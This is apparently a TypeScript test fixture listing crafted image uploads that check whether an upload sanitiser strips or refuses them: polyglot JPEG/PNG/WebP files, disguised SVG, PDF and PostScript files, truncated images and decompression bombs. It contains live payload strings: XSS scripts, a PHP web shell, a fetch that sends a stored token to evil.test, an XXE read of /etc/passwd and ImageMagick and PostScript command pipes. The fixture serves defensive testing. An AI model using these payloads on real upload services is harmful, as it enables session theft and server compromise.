import { deflateSync, gzipSync } from 'node:zlib';
import {
  blackPng,
  gif,
  jpeg,
  jpegOfSize,
  jpegWith,
  movingWebp,
  png,
  pngChunk,
  pngWith,
  riff,
  webp,
} from './files.ts';

/** A file that an editor, or a thief of their session, might upload; `payload` must not be in what is stored. */
export type Attack = {
  name: string;
  bytes: Buffer;
  outcome: 'stored' | 'image_type' | 'image_dimensions' | 'image_unreadable';
  payload?: string;
};

const HTML = '<!doctype html><script>alert(document.domain)</script>';
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)" width="9" height="9"/>';
const text = (own: string) => Buffer.from(own, 'latin1');
const named = (outcome: Attack['outcome'], files: Record<string, Buffer | string>): Attack[] =>
  Object.entries(files).map(([name, bytes]) => ({
    name,
    outcome,
    bytes: typeof bytes === 'string' ? text(bytes) : bytes,
  }));

const payloads: Record<string, string> = {
  'a page': HTML,
  'a drawing with a script': SVG,
  'a program for PHP': '<?php system($_GET["c"]); ?>',
  'a script': '*/=1;fetch("https://evil.test/"+localStorage.token)/*',
};

/** An image that is shown as one, and that something else reads as the payload. */
const carriers: Record<string, (payload: Buffer) => Buffer> = {
  'in the comment of a JPEG': (payload) => jpegWith(0xfe, payload),
  'in the metadata of a JPEG': (payload) =>
    jpegWith(0xe1, Buffer.concat([text('http://ns.adobe.com/xap/1.0/\0'), payload])),
  'in an unknown segment of a JPEG': (payload) => jpegWith(0xee, payload),
  'after the end of a JPEG': (payload) => Buffer.concat([jpeg, payload]),
  'in a text of a PNG': (payload) => pngWith(pngChunk('tEXt', Buffer.concat([text('Comment\0'), payload]))),
  'in an unknown chunk of a PNG': (payload) => pngWith(pngChunk('paYl', payload)),
  'after the end of a PNG': (payload) => Buffer.concat([png, payload]),
  'after the end of a WebP': (payload) => Buffer.concat([webp, payload]),
  'in an unknown chunk of a WebP': (payload) =>
    riff('WEBP', ['VP8 ', webp.subarray(20, 20 + webp.readUInt32LE(16))], ['PAYL', payload]),
};

const polyglots = Object.entries(payloads).flatMap(([what, payload]) =>
  Object.entries(carriers).map(([where, carry]): Attack => ({
    name: `${what} ${where}`,
    bytes: carry(text(payload)),
    outcome: 'stored',
    payload,
  })),
);

/** Refused by their first bytes: no decoder ever reads them. */
const otherTypes = named('image_type', {
  'one byte': 'x',
  'a page': HTML,
  'a drawing': SVG,
  'a drawing behind an XML head': `<?xml version="1.0"?>${SVG}`,
  'a drawing behind a byte order mark': `\xEF\xBB\xBF${SVG}`,
  'a drawing behind blanks': `\n\t  ${SVG}`,
  'a drawing in UTF-16': Buffer.from(`\uFEFF${SVG}`, 'utf16le'),
  'a packed drawing': gzipSync(SVG),
  'a drawing that reads a file of the server':
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
  'a script of ImageMagick': 'push graphic-context\nfill \'url(https://evil.test/"|id")\'',
  PostScript: '%!PS\n(%pipe%id) (r) file',
  'a PDF': '%PDF-1.7\n1 0 obj<</S/JavaScript>>',
  'a GIF': gif,
  'a GIF of 1987': text(`GIF87a${gif.toString('latin1', 6)}`),
  'a GIF that is a script': 'GIF89a/*\0\0*/=1;alert(1)',
  'a bitmap': `BM${'\0'.repeat(60)}`,
  'a TIFF': 'II*\0\x08\0\0\0',
  'a TIFF of the other order': 'MM\0*\0\0\0\x08',
  'an icon': '\0\0\x01\0\x01\0',
  'an AVIF': '\0\0\0\x1CftypavifmifaavifMA1B',
  'a HEIC': '\0\0\0\x1Cftypheicmif1heic',
  'a JPEG 2000': '\0\0\0\x0CjP  \r\n\x87\n',
  'a JPEG XL': '\xFF\x0A\xFA\x1F',
  'a video': '\0\0\0\x18ftypmp42',
  'an archive': 'PK\x03\x04\x14\0\0\0\x08\0',
  'a program': '\x7FELF\x02\x01\x01',
  'a program of the web': '\0asm\x01\0\0\0',
  'a sound in the frame of a WebP': riff('WAVE', ['fmt ', Buffer.alloc(16)]),
  'a JPEG behind a page': Buffer.concat([text(HTML), jpeg]),
  'a PNG behind a byte order mark': Buffer.concat([text('\xEF\xBB\xBF'), png]),
  'a PNG whose line ends were changed': text(png.toString('latin1').replace('\r\n', '\n')),
  'a moving WebP': movingWebp,
});

const spoiled = (file: Buffer, at: number, by: string) =>
  Buffer.concat([file.subarray(0, at), text(by), file.subarray(at + by.length)]);

/** Begin as an image, and are none. */
const unreadable = named('image_unreadable', {
  'a page behind the first bytes of a JPEG': `\xFF\xD8\xFF${HTML}`,
  'a page behind the first bytes of a PNG': `\x89PNG\r\n\x1A\n${HTML}`,
  'a page in the frame of a WebP': riff('WEBP', ['VP8 ', text(HTML)]),
  'a drawing behind the first bytes of a JPEG': `\xFF\xD8\xFF${SVG}`,
  'a drawing in the frame of a WebP': riff('WEBP', ['VP8L', text(SVG)]),
  'the first bytes of a JPEG': jpeg.subarray(0, 20),
  'the first bytes of a PNG': png.subarray(0, 20),
  'the first bytes of a WebP': webp.subarray(0, 20),
  'half a JPEG': jpeg.subarray(0, jpeg.length / 2),
  'half a PNG': png.subarray(0, png.length / 2),
  'half a WebP': webp.subarray(0, webp.length / 2),
  'a JPEG without its last bytes': jpeg.subarray(0, -40),
  'a PNG with a wrong checksum': spoiled(png, 29, 'xxxx'),
  'a PNG with other pixels': spoiled(png, 80, 'x'.repeat(400)),
  'a PNG of no width': blackPng(0, 10),
  'a PNG with too few rows': blackPng(64, 64, 3),
  'a JPEG of no height': jpegOfSize(48, 0),
  'a WebP of no size': spoiled(webp, 26, '\0\0\0\0'),
});

/** Few bytes that a decoder would make gigabytes of. */
const bombs = named('image_dimensions', {
  'a PNG of 400 million pixels': blackPng(16_000, 25_000),
  'a PNG that says it has 4 billion pixels': blackPng(65_535, 65_535, 10),
  'a PNG of a little more than 40 million pixels': blackPng(8_000, 5_001),
  'a PNG one pixel too wide': blackPng(16_384, 2),
  'a PNG one pixel too high': blackPng(2, 16_384),
  'a JPEG that says it has 4 billion pixels': jpegOfSize(65_500, 65_500),
});

const inflating = deflateSync(Buffer.alloc(64_000_000), { level: 1 });
/** Metadata is not unpacked, and not stored. */
const packedTexts: Attack[] = [
  {
    name: 'a PNG with a text that inflates to 64 MB',
    bytes: pngWith(pngChunk('zTXt', Buffer.concat([text('Comment\0\0'), inflating]))),
    outcome: 'stored',
  },
  {
    name: 'a PNG with a profile that inflates to 64 MB',
    bytes: pngWith(pngChunk('iCCP', Buffer.concat([text('x\0\0'), inflating]))),
    outcome: 'stored',
  },
];

export const attacks: readonly Attack[] = [
  ...polyglots,
  ...otherTypes,
  ...unreadable,
  ...bombs,
  ...packedTexts,
];
